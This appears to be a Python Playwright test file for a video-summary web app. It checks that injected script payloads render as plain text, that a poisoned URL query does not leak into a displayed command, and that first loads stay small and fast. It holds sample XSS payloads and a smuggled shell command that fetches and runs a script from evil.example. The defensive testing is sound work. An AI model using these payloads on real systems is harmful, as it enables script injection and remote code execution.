"""Text from videos stays text wherever it is shown; and a first visit is small."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import expect

from local.youtube import Failure
from testkit.template import ROOT
from tests.browser import Visitor, fetched

ATTEMPT = "<img src=x onerror=alert(1)><script>alert(2)</script>"
FIRST_VIEW_BYTES = 60_000
FIRST_VIEW_REQUESTS = 4


def test_scripting_attempts_stay_text_and_enter_no_command(visitor: Visitor) -> None:
    visitor.sign_in()
    scripting_attempts_stay_text(visitor)
    a_link_to_the_page_puts_nothing_into_a_command(visitor)


def scripting_attempts_stay_text(visitor: Visitor) -> None:
    page = visitor.page
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    visitor.paste("Lighthouse1", f"javascript:alert(3) {ATTEMPT}", f"https://evil.example/{ATTEMPT}")
    page.get_by_label("Name").fill(ATTEMPT)
    page.get_by_text("1 link cannot be used").click()
    expect(page.locator(".links-problems")).to_contain_text("is not YouTube")
    page.get_by_role("button", name="Start").click()
    expect(visitor.heading(ATTEMPT)).to_be_visible()
    expect(page.locator(".name-line .pill")).to_have_text("Done", timeout=60_000)

    # The same in what the API tells of videos, as captions and titles would bring it there.
    page.route("**/api/summaries/*", lambda route: route.fulfill(json=poisoned(fetched(route).json())))
    page.route("**/api/batch/*?limit=*", lambda route: route.fulfill(json=poisoned(fetched(route).json())))
    page.reload()
    page.get_by_role("link", name=ATTEMPT).first.click()
    expect(page.locator(".summary-title")).to_have_text(ATTEMPT)
    expect(page.locator(".prose")).to_contain_text(ATTEMPT)
    expect(page.locator(".summary .chapters")).to_contain_text(ATTEMPT)
    expect(page.locator(".tags")).to_contain_text(ATTEMPT)
    assert page.locator("main img, main script, main iframe").count() == 0
    assert page.locator("a[href^='javascript']").count() == 0
    assert dialogs == []
    # The policy has reported nothing: see `visit`.
    page.unroute_all()


def a_link_to_the_page_puts_nothing_into_a_command(visitor: Visitor) -> None:
    page = visitor.page
    page.get_by_role("link", name="Skimlist").click()
    visitor.stack.youtube.fail(Failure.BLOCKED)
    batch_id = visitor.create("Start", "Sauerteig_1")
    query = "?a;curl${IFS}evil.example/x|sh;`id`&b=$(id)"
    page.goto(f"{visitor.origin}/{query}#/batch/{batch_id}")
    expect(page.locator(".banner .copy-block code")).to_have_text(
        f"python examples/skimlist_client.py --fetch-captions --app {visitor.origin} "
        f"--client {visitor.stack.local.description['client_id']} --username {visitor.email}",
        timeout=60_000,
    )
    assert query in page.url
    visitor.stack.recover()


def poisoned(answer: Any) -> Any:
    """Puts the attack in place of every text of a video, and a script in place of its address."""
    if isinstance(answer, list):
        return [poisoned(each) for each in answer]
    if not isinstance(answer, dict):
        return answer
    changed = {name: poisoned(value) for name, value in answer.items()}
    changed |= dict.fromkeys({"title", "channel", "tldr", "text", "summary"} & answer.keys(), ATTEMPT)
    if "tags" in answer:
        changed["tags"] = [ATTEMPT]
    if "url" in answer:
        changed["url"] = "javascript:alert(4)"
    return changed


def test_the_first_view_is_small_and_a_summary_full_of_stars_does_not_hold_it_up(visitor: Visitor) -> None:
    the_first_view_is_small_and_a_second_visit_asks_for_the_document_alone(visitor)
    a_summary_full_of_stars_does_not_hold_up_the_page(visitor)


def the_first_view_is_small_and_a_second_visit_asks_for_the_document_alone(visitor: Visitor) -> None:
    """Each file may start a function, and a new AWS account runs ten at a time."""
    page, asked = visitor.page, list[str]()
    first: list[Mapping[str, int]] = []
    page.on("request", lambda request: asked.append(urlsplit(request.url).path.rpartition("/")[2]))
    page.on("requestfinished", lambda request: first.append(request.sizes()))
    page.goto(visitor.stack.local.description["page_url"])
    visitor.heading("Sign in").wait_for()
    page.wait_for_load_state("networkidle")
    assert {*asked, "icon.svg"} == {"", "icon.svg", "scripts.js", "styles.css"}  # the icon may come later
    assert len(first) <= FIRST_VIEW_REQUESTS
    assert 0 < sum(size["responseBodySize"] + size["responseHeadersSize"] for size in first) < FIRST_VIEW_BYTES

    page.reload()
    visitor.heading("Sign in").wait_for()
    sizes = "type => performance.getEntriesByType(type).map(each => [each.encodedBodySize, each.transferSize])"
    assert all(size and not sent for size, sent in page.evaluate(sizes, "resource"))
    [[size, sent]] = page.evaluate(sizes, "navigation")
    assert sent < size + 300  # the answer was a 304: headers alone


def a_summary_full_of_stars_does_not_hold_up_the_page(visitor: Visitor) -> None:
    # The modules by themselves; the page has them joined.
    visitor.page.route(
        "**/scripts/*.js", lambda route: route.fulfill(path=ROOT / "web" / urlsplit(route.request.url).path[1:])
    )
    shown = """async () => {
        const { prose } = await import("/scripts/markdown.js");
        const began = performance.now();
        const length = prose("**a ".repeat(25_000)).map((node) => node.textContent).join("").length;
        return [length, performance.now() - began];
    }"""
    length, milliseconds = visitor.page.evaluate(shown)
    assert length == 4 * 25_000 - 1
    assert milliseconds < 2_000  # each star searched the rest of the text before: 7 s
